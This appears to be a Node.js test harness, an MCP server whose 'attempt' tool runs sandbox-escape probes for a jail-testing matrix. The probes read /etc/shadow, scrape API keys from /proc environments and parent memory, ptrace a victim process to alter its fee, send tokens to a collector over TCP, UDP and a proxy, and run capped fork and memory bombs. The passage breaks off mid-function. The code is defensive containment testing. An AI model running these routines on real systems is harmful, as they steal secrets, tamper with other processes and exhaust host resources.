// escape_spoke.mjs: the escape matrix's hostile spoke written for Node (the `node`
// column of scripts/escape-matrix). The same tool, "attempt", and the same outcome
// strings as escape_spoke.c ("kind:errno-or-detail[:detail]"), so the script judges
// both alike; but every attempt is made the way a hostile npm package would make it:
// in JavaScript where Node can (fs, net, dgram, child_process, /proc), and through a
// native addon (escape_addon.node, raw system calls) where only a system call can
// (ptrace, mount, clone flags, bpf, perf, keyrings, System V shm, memfds).
//
// Unlike the C spoke, attempts run in the spoke's own process: the node runtime
// allows threads only (child_process fails with EPERM), so a child is not available
// in the jail. What one attempt does to the process (an OOM kill by the jail's
// cgroup) the hub reports, and it starts the spoke again for the next call.
//
// A minimal MCP server (no SDK): newline-delimited JSON-RPC on stdin and stdout.
// Nothing here may hurt the machine where nothing stops it (the script's control runs
// it as root in `none` mode): it touches only what the call's "target" names, and the
// bombs stop at their cap (see escape_attempts.c, whose rules this follows).
import child_process from "node:child_process";
import dgram from "node:dgram";
import fs from "node:fs";
import os from "node:os";
import net from "node:net";
import path from "node:path";
import readline from "node:readline";
import { createRequire } from "node:module";
import { fileURLToPath } from "node:url";

const STARTUP_FDS = fs.readdirSync("/proc/self/fd").flatMap((fd) => {
    try { return [{ fd: Number(fd), link: fs.readlinkSync(`/proc/self/fd/${fd}`) }]; } catch { return []; } // readdir's own
});
const HERE = path.dirname(fileURLToPath(import.meta.url));
const addon = createRequire(import.meta.url)(path.join(HERE, "escape_addon.node"));
const MARKER = fileURLToPath(import.meta.url); // in every child's arguments: the script finds them

const SHOW_MAX = 160;
const KEY_HEX_MIN = 16;
const HOLD_MS = 1000; // as escape_attempts.c: long enough for the sampler (every 20 ms) when the script is busy
const ATTEMPT_TIMEOUT_MS = 80000; // under the hub's call_timeout_ms (90 s); 64 node starts took over 35 s beside another make check
const IO_TIMEOUT_MS = 5000;
const MIB = 1 << 20;
const { O_WRONLY, O_RDWR, O_TRUNC, O_NOFOLLOW } = fs.constants;

// Must equal tests/matrix/escape.json's tool: the hub pins it.
const TOOL = {
    name: "attempt",
    description: "Runs one escape attempt of the escape matrix and reports its outcome.",
    inputSchema: {
        type: "object",
        properties: { attempt: { type: "string", pattern: "^[a-z0-9_]{1,40}$" }, target: { type: "object" } },
        required: ["attempt"], additionalProperties: false,
    },
    outputSchema: {
        type: "object",
        properties: {
            attempt: { type: "string" }, outcome: { type: "string" }, kind: { type: "string" },
            errno: { type: "string" }, detail: { type: "string" },
        },
        required: ["attempt", "outcome", "kind"],
    },
};

// An attempt ends by throwing its outcome string (as probe_report ends the C child).
class Outcome { constructor(s) { this.s = s; } }
const report = (s) => { throw new Outcome(s); };
const code = (e) => (e && e.code) || "EIO";
const reportErr = (e, detail) => report(`errno:${code(e)}${detail ? ":" + detail : ""}`);
const outcome = (r) => (r.errno ? report(`errno:${r.errno}`) : report("ok"));
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const show = (buf) => Array.from(buf.subarray(0, SHOW_MAX), (c) => (c >= 32 && c < 127 ? String.fromCharCode(c) : ".")).join("");
const need = (t, key) => t[key] || report(`error:no target.${key}`);

function readUpTo(p, n) {
    const fd = fs.openSync(p, "r");
    try {
        const buf = Buffer.alloc(n);
        return buf.subarray(0, fs.readSync(fd, buf, 0, n, null));
    } finally {
        fs.closeSync(fd);
    }
}

// ---- host files ----

function readPath(p) {
    try {
        report("ok:" + show(readUpTo(p, SHOW_MAX)));
    } catch (e) {
        if (e instanceof Outcome) throw e;
        reportErr(e);
    }
}

function writeHostFile(t) {
    const p = need(t, "path"), content = need(t, "content");
    try {
        const fd = fs.openSync(p, O_WRONLY | O_TRUNC | O_NOFOLLOW);
        fs.writeSync(fd, content);
        fs.closeSync(fd);
    } catch (e) { reportErr(e); }
    report("ok");
}

// ---- other spokes ----

// The victim's file: by its place beside this spoke's data directory, else by its host path.
function openVictim(t, flags) {
    const tries = [];
    let err = null;
    for (const p of [t.rel && path.join(process.env.SPOKE_DATA || "/data", "..", t.rel), t.path]) {
        if (!p) continue;
        try {
            const fd = fs.openSync(p, flags | O_NOFOLLOW);
            tries.push(`${p}: ok`);
            return { fd, used: p, tries };
        } catch (e) {
            err = e;
            tries.push(`${p}: ${code(e)}`);
        }
    }
    return { err, tries };
}

function spokeDataRead(t) {
    const v = openVictim(t, fs.constants.O_RDONLY);
    if (!v.used) reportErr(v.err, JSON.stringify(v.tries));
    const buf = Buffer.alloc(4096);
    const n = fs.readSync(v.fd, buf, 0, buf.length, null);
    fs.closeSync(v.fd);
    report("ok:" + show(buf.subarray(0, n)));
}

function spokeDataWrite(t) {
    const content = need(t, "content");
    const v = openVictim(t, O_WRONLY | O_TRUNC);
    if (!v.used) reportErr(v.err, "open the victim's file for writing");
    fs.writeSync(v.fd, content);
    fs.closeSync(v.fd);
    report(`ok:overwrote ${v.used} with ${Buffer.byteLength(content)} bytes`);
}

function environOf(pid) {
    try {
        return fs.readFileSync(`/proc/${pid}/environ`).toString("latin1").split("\0");
    } catch { return null; }
}

// Spokes of this user's data directory named app (as spokes/attack/procs.c finds them).
function findVictims(app) {
    const mine = fs.realpathSync(process.env.SPOKE_DATA || "/data");
    const shared = path.dirname(mine);
    if (shared === "/") return []; // "/data" in a jail: nothing beside it
    const out = [];
    for (const p of fs.readdirSync("/proc")) {
        if (!/^\d+$/.test(p) || Number(p) === process.pid) continue;
        const env = environOf(p);
        const get = (k) => env && (env.find((v) => v.startsWith(k + "=")) || "").slice(k.length + 1);
        if (env && get("SPOKE_NAME") === app && get("SPOKE_DATA").startsWith(shared + "/"))
            out.push(Number(p));
    }
    return out;
}

const RATES_MAGIC = Buffer.from("METROHAIL-RATES\0", "latin1");
const RATES_FEE_OFFSET = 40;

// The fare table in the victim's writable mappings of its own executable, read with read(at, len).
function findRates(pid, read) {
    const exe = fs.readlinkSync(`/proc/${pid}/exe`);
    for (const line of fs.readFileSync(`/proc/${pid}/maps`, "latin1").split("\n")) {
        const m = /^([0-9a-f]+)-([0-9a-f]+) (\S+) \S+ \S+ \S+\s+(.*)$/.exec(line);
        if (!m || !m[3].startsWith("rw") || m[4] !== exe) continue;
        const lo = parseInt(m[1], 16), hi = parseInt(m[2], 16);
        if (hi - lo > 16 * MIB) continue;
        const at = read(lo, hi - lo).indexOf(RATES_MAGIC);
        if (at >= 0) return lo + at;
    }
    return 0;
}

function preadFd(fd) {
    return (at, len) => {
        const buf = Buffer.alloc(len);
        return buf.subarray(0, fs.readSync(fd, buf, 0, len, at));
    };
}

const PTRACE_PEEKDATA = 2, PTRACE_POKEDATA = 5, PTRACE_DETACH = 17;
const PTRACE_SEIZE = 0x4206, PTRACE_INTERRUPT = 0x4207, WALL = 0x40000000;

function spokePtrace(t) {
    const [pid] = findVictims(need(t, "app"));
    if (!pid) report("errno:ESRCH:find the victim: No such process");
    let r = addon.sys("ptrace", PTRACE_SEIZE, pid, 0, 0);
    if (r.errno) report(`errno:${r.errno}:ptrace(PTRACE_SEIZE)`);
    try {
        r = addon.sys("ptrace", PTRACE_INTERRUPT, pid, 0, 0);
        if (!r.errno) r = addon.sys("wait4", pid, Buffer.alloc(4), WALL, null);
        if (r.errno) report(`errno:${r.errno}:ptrace(PTRACE_INTERRUPT)`);
        const fd = fs.openSync(`/proc/${pid}/mem`, "r"); // a tracer may read its tracee
        const at = findRates(pid, preadFd(fd));
        fs.closeSync(fd);
        if (!at) report("errno:ENOENT:find the fare table in the victim's memory");
        const word = Buffer.alloc(8); // the kernel's PEEKDATA stores the word at data
        r = addon.sys("ptrace", PTRACE_PEEKDATA, pid, BigInt(at + RATES_FEE_OFFSET), word);
        if (r.errno) report(`errno:${r.errno}:ptrace(PTRACE_PEEKDATA)`);
        const fee = word.readDoubleLE(0) + 10;
        word.writeDoubleLE(fee, 0);
        r = addon.sys("ptrace", PTRACE_POKEDATA, pid, BigInt(at + RATES_FEE_OFFSET), word.readBigInt64LE(0));
        if (r.errno) report(`errno:${r.errno}:ptrace(PTRACE_POKEDATA)`);
        report(`ok:traced pid ${pid} and raised its booking fee to ${fee.toFixed(2)}`);
    } finally {
        addon.sys("ptrace", PTRACE_DETACH, pid, 0, 0);
    }
}

function spokeProcmem(t) {
    const [pid] = findVictims(need(t, "app"));
    if (!pid) report("errno:ESRCH:find the victim: No such process");
    const p = `/proc/${pid}/mem`;
    let fd;
    try { fd = fs.openSync(p, O_RDWR); } catch (e) { reportErr(e, p); }
    try {
        const at = findRates(pid, preadFd(fd));
        if (!at) report("errno:ENOENT:find the fare table in the victim's memory");
        const b = Buffer.alloc(8);
        fs.readSync(fd, b, 0, 8, at + RATES_FEE_OFFSET);
        const fee = b.readDoubleLE(0) + 10;
        b.writeDoubleLE(fee, 0);
        try { fs.writeSync(fd, b, 0, 8, at + RATES_FEE_OFFSET); } catch (e) { reportErr(e, "pwrite"); }
        report(`ok:wrote ${p}: booking fee now ${fee.toFixed(2)}`);
    } finally { fs.closeSync(fd); }
}

// ---- host processes and the hub's secrets ----

function killProcess(t) {
    if (!(t.pid > 1)) report("error:no target.pid");
    try { process.kill(t.pid, "SIGKILL"); } catch (e) { reportErr(e); }
    report("ok");
}

const looksLikeKey = (v, prefix) => v.startsWith(prefix) && /^[0-9a-fA-F]*/.exec(v.slice(prefix.length))[0].length >= KEY_HEX_MIN;

function llmKeyEnviron(t) {
    const name = need(t, "name"), prefix = need(t, "prefix");
    let seen = 0, denied = 0, scrubbed = "";
    for (const p of fs.readdirSync("/proc")) {
        if (!/^\d+$/.test(p)) continue;
        const env = environOf(p);
        if (!env) { denied++; continue; }
        seen++;
        for (const kv of env) {
            if (!kv.startsWith(name + "=")) continue;
            const v = kv.slice(name.length + 1);
            if (looksLikeKey(v, prefix)) report(`ok:${show(Buffer.from(v, "latin1"))} in /proc/${p}/environ`);
            scrubbed = ` (set in /proc/${p}/environ, not to a key)`;
        }
    }
    report(`blocked:no key in ${seen} readable environments (${denied} unreadable)${scrubbed}`);
}

function parentOf(pid) {
    try {
        const s = fs.readFileSync(`/proc/${pid}/stat`, "latin1");
        return Number(s.slice(s.lastIndexOf(")") + 2).split(" ")[1]) || 0;
    } catch { return 0; }
}

const isHub = (pid) => { try { return path.basename(fs.readlinkSync(`/proc/${pid}/exe`)) === "hub"; } catch { return false; } };

// A value with prefix in pid's readable mappings; {found} or {bytes}; throws when unreadable.
function scanMemory(pid, prefix) {
    const maps = fs.readFileSync(`/proc/${pid}/maps`, "latin1");
    const fd = fs.openSync(`/proc/${pid}/mem`, "r");
    const read = preadFd(fd), pre = Buffer.from(prefix, "latin1");
    let bytes = 0, budget = 256 * MIB, lastErr = null;
    try {
        for (const line of maps.split("\n")) {
            const m = /^([0-9a-f]+)-([0-9a-f]+) (\S+)/.exec(line);
            if (!m || m[3][0] !== "r" || /\[(vvar|vsyscall)/.test(line)) continue;
            const lo = parseInt(m[1], 16), hi = parseInt(m[2], 16);
            if (hi - lo > 64 * MIB) continue;
            for (let a = lo; a < hi && budget > 0;) {
                let buf;
                try { buf = read(a, Math.min(MIB, hi - a)); } catch (e) { lastErr = e; break; }
                if (!buf.length) break;
                bytes += buf.length;
                budget -= buf.length;
                for (let i = buf.indexOf(pre); i >= 0; i = buf.indexOf(pre, i + 1)) {
                    let end = i + pre.length;
                    while (end < buf.length && /[0-9a-fA-F]/.test(String.fromCharCode(buf[end]))) end++;
                    if (end - i - pre.length >= KEY_HEX_MIN) return { found: show(buf.subarray(i, end)) };
                }
                a += buf.length > pre.length ? buf.length - pre.length : buf.length;
            }
        }
    } finally { fs.closeSync(fd); }
    if (!bytes && lastErr) throw lastErr;
    return { bytes };
}

// In the memory of the spoke's parent and of every ancestor that is the hub.
function scanAncestors(t) {
    const prefix = need(t, "prefix");
    let pid = process.pid, scanned = 0, total = 0, err = null;
    for (let depth = 0; depth < 6; depth++) {
        pid = parentOf(pid);
        if (pid <= 0) break;
        if (depth === 0 || isHub(pid)) {
            try {
                const r = scanMemory(pid, prefix);
                if (r.found) report(`ok:${r.found} in the memory of pid ${pid}`);
                scanned++;
                total += r.bytes;
            } catch (e) {
                if (e instanceof Outcome) throw e;
                err = e;
            }
        }
        if (pid === 1) break;
    }
    if (!scanned) report(`errno:${code(err)}:/proc/PARENT/mem`);
    report(`blocked:not in ${total} bytes of the memory of ${scanned} ancestor(s)`);
}

// ---- network ----

// A connected socket, or the error that stopped it.
function connect(opts) {
    return new Promise((resolve) => {
        const s = net.connect(opts);
        s.setTimeout(IO_TIMEOUT_MS, () => s.destroy(Object.assign(new Error("timeout"), { code: "ETIMEDOUT" })));
        s.once("connect", () => resolve({ s }));
        s.once("error", (err) => resolve({ err }));
    });
}

// Writes data, reads until the peer closes or headEnd is seen; the bytes read.
function exchange(s, data, headEnd) {
    return new Promise((resolve, reject) => {
        let got = Buffer.alloc(0);
        s.on("data", (d) => {
            got = Buffer.concat([got, d]);
            if (headEnd && got.includes(headEnd)) resolve(got);
        });
        s.once("end", () => resolve(got));
        s.once("close", () => resolve(got));
        s.once("error", reject);
        if (data !== null) s.write(data);
        if (!headEnd) s.end();
    });
}

const post = (host, data) =>
    `POST /collect HTTP/1.1\r\nHost: ${host}\r\nContent-Type: text/plain\r\nContent-Length: ${Buffer.byteLength(data)}\r\nConnection: close\r\n\r\n${data}`;

async function tcpDirect(t) {
    const addr = need(t, "addr"), token = need(t, "token");
    const i = addr.lastIndexOf(":");
    const c = await connect({ host: addr.slice(0, i), port: Number(addr.slice(i + 1)) });
    if (c.err) reportErr(c.err, `connect to the collector: ${c.err.message}`);
    const body = post(t.domain || addr, token);
    // In namespace mode the gateway completes the handshake and netproxy resets it.
    try { await exchange(c.s, body, null); } catch (e) { reportErr(e, `send to the collector: ${e.message}`); }
    report(`ok:sent ${Buffer.byteLength(body)} bytes to ${addr}`);
}

async function udpDirect(t) {
    const addr = need(t, "addr"), token = need(t, "token");
    const s = dgram.createSocket("udp4");
    const err = await new Promise((r) => { s.once("error", r); s.send(token, t.port, addr, r); });
    s.close();
    if (err) reportErr(err);
    report("ok");
}

// libuv (Node 20) cuts a unix socket path at its first NUL, so an abstract name needs
// the addon's socket(2) and connect(2).
function abstractUnix(t) {
    const name = Buffer.from(need(t, "name"));
    const sun = Buffer.alloc(3 + name.length); // sa_family AF_UNIX, then a NUL and the name
    sun.writeUInt16LE(1, 0);
    name.copy(sun, 3);
    const s = addon.sys("socket", 1, 1 | 0x80000, 0); // AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC
    if (s.errno) report(`errno:${s.errno}`);
    const fd = Number(s.ret);
    const c = addon.sys("connect", fd, sun, sun.length);
    if (c.errno) { addon.sys("close", fd); report(`errno:${c.errno}`); }
    try { fs.writeSync(fd, need(t, "token")); } catch (e) { reportErr(e); } finally { fs.closeSync(fd); }
    report("ok");
}

async function redisRead(t) {
    const sock = need(t, "socket"), key = need(t, "key");
    const c = await connect({ path: sock });
    if (c.err) reportErr(c.err, `${sock}: ${c.err.message}`);
    const reply = await exchange(c.s, `*4\r\n$6\r\nLRANGE\r\n$${Buffer.byteLength(key)}\r\n${key}\r\n$1\r\n0\r\n$2\r\n-1\r\n`, "\r\n");
    c.s.destroy();
    if (!reply.length) report("errno:ECONNRESET:read the reply");
    if (reply[0] === 0x2d) report("errno:EACCES:Redis answered an error");
    report(`ok:LRANGE ${key}: ${reply.length} bytes`);
}

// Through HTTPS_PROXY with CONNECT; without one, straight to the collector.
async function exfilProxy(t, proxyOnly) {
    const proxy = process.env.HTTPS_PROXY || process.env.https_proxy;
    if (!proxy) {
        if (proxyOnly) report("skip:no HTTPS_PROXY in this mode (the direct path is another attempt)");
        return tcpDirect(t);
    }
    const hp = /^http:\/\/([^/]+)/i.exec(proxy);
    const domain = need(t, "domain"), port = t.port || 443;
    if (!hp) report("errno:EINVAL:an unusable HTTPS_PROXY");
    const i = hp[1].lastIndexOf(":");
    const c = await connect({ host: hp[1].slice(0, i), port: Number(hp[1].slice(i + 1)) });
    if (c.err) reportErr(c.err, `connect to the proxy: ${c.err.message}`);
    const head = (await exchange(c.s, `CONNECT ${domain}:${port} HTTP/1.1\r\nHost: ${domain}:${port}\r\n\r\n`, "\r\n\r\n")).toString("latin1");
    const status = Number((/^HTTP\/\d\.\d (\d+)/.exec(head) || [])[1] || 0);
    const why = (/\r\nX-Proxy-Error: *([^\r\n]*)/i.exec(head) || [])[1];
    if (status !== 200) {
        c.s.destroy();
        report(`blocked:CONNECT ${domain}:${port} through ${hp[1]}: HTTP ${status}${why ? ` (X-Proxy-Error: ${why})` : ""}`);
    }
    const body = post(domain, need(t, "token"));
    c.s.removeAllListeners("data");
    await exchange(c.s, body, null);
    report(`ok:sent ${Buffer.byteLength(body)} bytes through the proxy`);
}

// ---- kernel interfaces and privileges (the addon's raw calls) ----

const CLONE_NEWUSER = 0x10000000, CLONE_NEWNET = 0x40000000;

function mountTmpfs() {
    const dir = path.join(process.env.SPOKE_DATA || "/data", "mnt");
    try { fs.mkdirSync(dir, { mode: 0o700 }); } catch { /* there already, or the mount says why */ }
    const r = addon.sys("mount", "itest-matrix", dir, "tmpfs", 2 | 4 | 8, "size=64k"); // NOSUID|NODEV|NOEXEC
    if (r.errno) report(`errno:${r.errno}`);
    addon.sys("umount2", dir, 2); // MNT_DETACH
    report(`ok:mounted a tmpfs on ${dir} (and unmounted it)`);
}

function setns() {
    let fd;
    try { fd = fs.openSync("/proc/self/ns/net", "r"); } catch (e) { reportErr(e); }
    const r = addon.sys("setns", fd, CLONE_NEWNET);
    fs.closeSync(fd);
    outcome(r);
}

function kernelModule() {
    const r = addon.sys("finit_module", -1, "", 0);
    if (r.errno === "EBADF") report("ok:permitted (the kernel went on to check the descriptor: EBADF)");
    outcome(r);
}

function bpf() {
    const attr = Buffer.alloc(72); // union bpf_attr, BPF_MAP_CREATE's part
    attr.writeUInt32LE(2, 0); // BPF_MAP_TYPE_ARRAY
    attr.writeUInt32LE(4, 4); // key_size
    attr.writeUInt32LE(4, 8); // value_size
    attr.writeUInt32LE(1, 12); // max_entries
    const r = addon.sys("bpf", 0, attr, attr.length);
    if (!r.errno) addon.sys("close", r.ret);
    outcome(r);
}

function perfEventOpen() {
    const pe = Buffer.alloc(64); // struct perf_event_attr, PERF_ATTR_SIZE_VER0
    pe.writeUInt32LE(1, 0); // PERF_TYPE_SOFTWARE (config 0: PERF_COUNT_SW_CPU_CLOCK)
    pe.writeUInt32LE(64, 4);
    pe.writeBigUInt64LE(0x21n, 40); // disabled | exclude_kernel
    const r = addon.sys("perf_event_open", pe, 0, -1, -1, 0);
    if (!r.errno) addon.sys("close", r.ret);
    outcome(r);
}

function openForWriting(p) {
    try { fs.closeSync(fs.openSync(p, O_WRONLY)); } catch (e) { reportErr(e); }
    report(`ok:opened ${p} for writing`);
}

function devDisk() {
    let first = null;
    for (const d of ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda", "/dev/loop0"]) {
        try {
            fs.closeSync(fs.openSync(d, "r"));
            report(`ok:opened ${d}`);
        } catch (e) {
            if (e instanceof Outcome) throw e;
            if (!first || e.code !== "ENOENT") first = e; // the most telling reason
        }
    }
    reportErr(first);
}

function capabilities() {
    const status = fs.readFileSync("/proc/self/status", "latin1");
    for (const set of ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]) {
        const m = new RegExp(`^${set}:\\s*(\\S+)`, "m").exec(status);
        if (!m) report(`errno:ENOENT:no ${set} in /proc/self/status`);
        if (BigInt("0x" + m[1]) !== 0n) report(`ok:${set}=${m[1]}`);
    }
    report("blocked:every capability set is empty");
}

function setuidExec(t) {
    const p = need(t, "path");
    const euid = Number(addon.sys("geteuid").ret);
    const r = child_process.spawnSync(p, ["-u"], { encoding: "latin1", timeout: IO_TIMEOUT_MS });
    if (r.error) reportErr(r.error, `spawn ${p}`);
    if (r.status !== 0) report(`errno:EIO:${p} exited with status ${r.status}`);
    const out = r.stdout.trim();
    if (out === "0") report(`ok:euid 0 in the setuid program (this spoke's euid: ${euid})`);
    report(`blocked:euid ${out} in the setuid-root program (this spoke's: ${euid})`);
}

// The descriptors open when the script started: inherited ones, and node's own, which
// are event loop internals (epoll, eventfd, its pipes, libuv's reserved /dev/null).
function inheritedFds() {
    for (const { fd, link } of STARTUP_FDS) {
        if (fd <= 2 || /^(anon_inode:|pipe:)/.test(link) || link === "/dev/null") continue;
        report(`ok:descriptor ${fd} is open: ${link}`);
    }
    report("blocked:no descriptor beyond 0-2 but node's event loop");
}

// ---- resource exhaustion (capped) ----

// Starts a node child (the marker among its arguments); {child} or {err}.
function spawnNode(code) {
    return new Promise((resolve) => {
        let c;
        try {
            c = child_process.spawn(process.execPath, ["-e", code, MARKER], { stdio: ["pipe", "ignore", "ignore"] });
        } catch (err) { return resolve({ err }); }
        if (c.pid) { c.on("error", () => {}); return resolve({ child: c }); }
        c.once("error", (err) => resolve({ err }));
    });
}

const cap = (t, max) => (t.cap > 0 && t.cap <= max ? t.cap : max);

async function forkBomb(t) {
    const kids = [];
    let err = null;
    const n = cap(t, 256);
    while (kids.length < n) {
        const r = await spawnNode("process.stdin.resume(); process.stdin.on('end', () => process.exit(0))");
        if (r.err) { err = r.err; break; }
        // Each child only has to exist: at the lowest priority, 64 booting node children do
        // not starve the spawning (on a busy host the control ran past its time).
        try { os.setPriority(r.child.pid, 19); } catch (e) { /* refused in a jail: no matter */ }
        kids.push(r.child);
    }
    await sleep(HOLD_MS);
    // Killed, not asked to exit: 64 node children still booting would need seconds of
    // CPU each on a busy host just to read their end of input.
    await Promise.all(kids.map((k) => new Promise((res) => {
        if (k.exitCode !== null || k.signalCode !== null) return res();
        k.once("exit", res);
        k.kill("SIGKILL");
    })));
    if (err) report(`errno:${code(err)}:stopped at ${kids.length} processes of a cap of ${t.cap}: ${err.message}`);
    report(`ok:reached the cap: ${kids.length} processes`);
}

async function memoryBomb(t) {
    const held = [];
    const n = cap(t, 1024);
    let mib = 0;
    try {
        for (; mib < n; mib += 4) held.push(Buffer.alloc(4 * MIB, 0xa5)); // touched: resident
    } catch (e) {
        held.length = 0;
        report(`errno:ENOMEM:stopped at ${mib} MiB resident of a cap of ${t.cap}: ${e.message}`);
    }
    await sleep(HOLD_MS);
    held.length = 0;
    report(`ok:reached the cap: ${mib} MiB resident`);
}

function diskBomb(t) {
    const p = path.join(process.env.SPOKE_DATA || "/data", "fill.bin");
    const chunk = Buffer.alloc(MIB, "x");
    const n = cap(t, 1024);
    let fd, mib = 0;
    try { fd = fs.openSync(p, "w"); } catch (e) { reportErr(e); }
    try {
        for (; mib < n; mib++) fs.writeSync(fd, chunk); // past RLIMIT_FSIZE: EFBIG (SIGXFSZ is handled)
    } catch (e) {
        fs.closeSync(fd);
        report(`errno:${code(e)}:stopped at ${mib} MiB written of a cap of ${t.cap}: ${e.message}`);
    }
    fs.fsyncSync(fd);
    fs.closeSync(fd);
    report(`ok:reached the cap: ${mib} MiB written`);
}

// What no rlimit bounds for the spoke as a whole: held for HOLD_MS, then given back.
async function shmDetached(t) {
    const seg = 8, ids = [];
    let got = 0, err = "";
    while (got < t.cap && ids.length < 256) {
        const id = addon.sys("shmget", 0, seg * MIB, 0o1000 | 0o600); // IPC_PRIVATE, IPC_CREAT
        if (id.errno) { err = id.errno; break; }
        ids.push(id.ret);
        const at = addon.sys("shmat", id.ret, 0, 0);
        if (at.errno) { err = at.errno; break; }
        addon.fill(at.ret, 0x5a, seg * MIB);
        addon.sys("shmdt", at.ret);
        got += seg;
    }
    if (got) await sleep(HOLD_MS);
    for (const id of ids) addon.sys("shmctl", id, 0, 0); // IPC_RMID
    if (got < t.cap) report(`errno:${err}:shmget/shmat after ${got} MiB`);
    report(`ok:held ${got} MiB of detached System V shared memory`);
}

async function memfdWritten(t) {
    const chunk = Buffer.alloc(MIB, 0x5a), fds = [];
    let got = 0, stopped = "";
    for (; got < t.cap; got++) {
        if (got % 15 === 0) {
            const r = addon.sys("memfd_create", "hold", 1); // MFD_CLOEXEC
            if (r.errno) { stopped = `errno:${r.errno}:memfd_create after ${got} MiB`; break; }
            fds.push(Number(r.ret));
        }
        try { fs.writeSync(fds[fds.length - 1], chunk); } catch (e) { stopped = `errno:${code(e)}:write after ${got} MiB`; break; }
    }
    if (!stopped) await sleep(HOLD_MS);
    for (const fd of fds) fs.closeSync(fd);
    if (stopped) report(stopped);
    report(`ok:held ${got} MiB in memfds (written, never mapped)`);
}

async function tmpfsFill(t) {
    const prefix = need(t, "prefix"), chunk = Buffer.alloc(MIB, 0x5a), files = [];
    let got = 0, err = null;
    while (got < t.cap && !err) {
        const p = `${prefix}.${files.length}`;
        let fd;
        try { fd = fs.openSync(p, "w", 0o600); } catch (e) { err = e; break; }
        files.push(p);
        try {
            for (let i = 0; i < 15 && got < t.cap; i++, got++) fs.writeSync(fd, chunk);
        } catch (e) { err = e; }
        fs.closeSync(fd);
    }
    if (got) await sleep(HOLD_MS);
    for (const p of files) fs.rmSync(p, { force: true });
    if (err) report(`errno:${code(err)}:write to /tmp after ${got} MiB`);
    report(`ok:held ${got} MiB in /tmp`);
}

// Native forks of this process (a node child would take longer to start than to spin),
// let go together when the gate pipe closes.
function forkCrowd(t) {
    const ms = Number(t.spin_ms) || 0, pids = [], gate = Buffer.alloc(8);
    const g = addon.sys("pipe2", gate, 0x80000); // O_CLOEXEC
    if (g.errno) report(`errno:${g.errno}:pipe2`);
    const [gateR, gateW] = [gate.readInt32LE(0), gate.readInt32LE(4)];
    let err = "";
    while (pids.length < t.cap) {
        const r = addon.forkSpin(ms, gateR, gateW);
        if (r.errno) { err = r.errno; break; }
        pids.push(r.ret);
    }
    // As escape_attempts.c: when the crowd was released, on CLOCK_MONOTONIC (libuv's
    // hrtime), for the script's window.
    const released = (Number(process.hrtime.bigint() / 1000000n) / 1000).toFixed(3);
    addon.sys("close", gateW);
    addon.sys("close", gateR);
    setTimeout(() => pids.forEach((p) => addon.sys("wait4", p, null, 0, null)), ms + 100);
    if (err) report(`errno:${err}:fork after ${pids.length} spinners (still spinning; released at ${released})`);
    report(`ok:${pids.length} processes spinning after the answer (released at ${released})`);
}

const ATTEMPTS = {
    read_host_file: (t) => readPath(need(t, "path")),
    read_checkout: (t) => readPath(need(t, "path")),
    read_shadow: () => {
        try { report(`ok:read ${fs.readFileSync("/etc/shadow").length} bytes`); } catch (e) { if (e instanceof Outcome) throw e; reportErr(e); }
    },
    write_host_file: writeHostFile,
    spoke_data_read: spokeDataRead,
    spoke_data_write: spokeDataWrite,
    spoke_ptrace: spokePtrace,
    spoke_procmem: spokeProcmem,
    kill_process: killProcess,
    llm_key_environ: llmKeyEnviron,
    llm_key_memory: scanAncestors,
    hub_memory_data: scanAncestors,
    redis_read: redisRead,
    tcp_loopback: tcpDirect,
    tcp_remote: tcpDirect,
    udp_loopback: udpDirect,
    abstract_unix: abstractUnix,
    proxy_unlisted: (t) => exfilProxy(t, false),
    proxy_private: (t) => exfilProxy(t, true),
    proxy_metadata: (t) => exfilProxy(t, true),
    mount: mountTmpfs,
    unshare_user: () => outcome(addon.forkExit(CLONE_NEWUSER)),
    setns,
    kernel_module: kernelModule,
    bpf,
    perf_event_open: perfEventOpen,
    keyctl: () => outcome(addon.sys("keyctl", 0, -3, 0)), // KEYCTL_GET_KEYRING_ID, the session keyring
    proc_sys_write: () => openForWriting("/proc/sys/kernel/core_pattern"),
    dev_disk: devDisk,
    capabilities,
    setuid_exec: setuidExec,
    inherited_fds: inheritedFds,
    fork_bomb: forkBomb,
    memory_bomb: memoryBomb,
    disk_bomb: diskBomb,
    shm_detached: shmDetached,
    memfd_written: memfdWritten,
    tmpfs_fill: tmpfsFill,
    fork_crowd: forkCrowd,
    wait: async (t) => { await sleep(Number(t.ms) || 0); report(`skip:waited ${Number(t.ms) || 0} ms`); },
};

// "kind:errno-or-detail[:detail]" -> the tool's structured result
function structured(name, out) {
    const i = out.indexOf(":");
    const kind = i < 0 ? out : out.slice(0, i);
    let rest = i < 0 ? "" : out.slice(i + 1);
    const r = { attempt: name, outcome: out, kind };
    if (kind === "errno") {
        const j = rest.indexOf(":");
        r.errno = j < 0 ? rest : rest.slice(0, j);
        rest = j < 0 ? "" : rest.slice(j + 1);
    }
    r.detail = rest;
    return r;
}

// The node-exec column: every attempt made by a host program this spoke may run
// (--exec), the C spoke's own code, under the node preset's +exec variant.
function runExec(name, target) {
    return new Promise((resolve) => {
        child_process.execFile(process.env.ESCAPE_EXEC, ["--attempt", name, JSON.stringify(target)],
                               { timeout: ATTEMPT_TIMEOUT_MS + 5000 }, (e, stdout) => {
            const line = String(stdout || "").trim().split("\n").pop();
            resolve(line || `error:the program gave no outcome (${e ? (e.code || e.message) : "no error"})`);
        });
    });
}

async function runAttempt(name, target) {
    const fn = ATTEMPTS[name];
    if (!fn) return null;
    if (process.env.ESCAPE_EXEC)
        return (await runExec(name, target)).replace(/[\r\n]+/g, " ");
    let timer;
    const timeout = new Promise((res) => { timer = setTimeout(() => res(`error:timeout after ${ATTEMPT_TIMEOUT_MS / 1000} s`), ATTEMPT_TIMEOUT_MS); });
    const run = (async () => {
        try {
            await fn(target);
            return "error:the attempt returned without an outcome";
        } catch (e) {
            return e instanceof Outcome ? e.s : `error:${e && e.stack ? e.stack.split("\n")[0] : e}`;
        }
    })();
    const out = await Promise.race([run, timeout]);
    clearTimeout(timer);
    return out.replace(/[\r\n]+/g, " ");
}

// ---- MCP over stdio ----

const send = (msg) => process.stdout.write(JSON.stringify(msg) + "\n");

async function handle(req) {
    const { id, method, params } = req;
    if (id === undefined) return; // notifications
    if (method === "initialize")
        return send({ jsonrpc: "2.0", id, result: { protocolVersion: params.protocolVersion, capabilities: { tools: {} }, serverInfo: { name: "escape", version: "1.0" } } });
    if (method === "ping") return send({ jsonrpc: "2.0", id, result: {} });
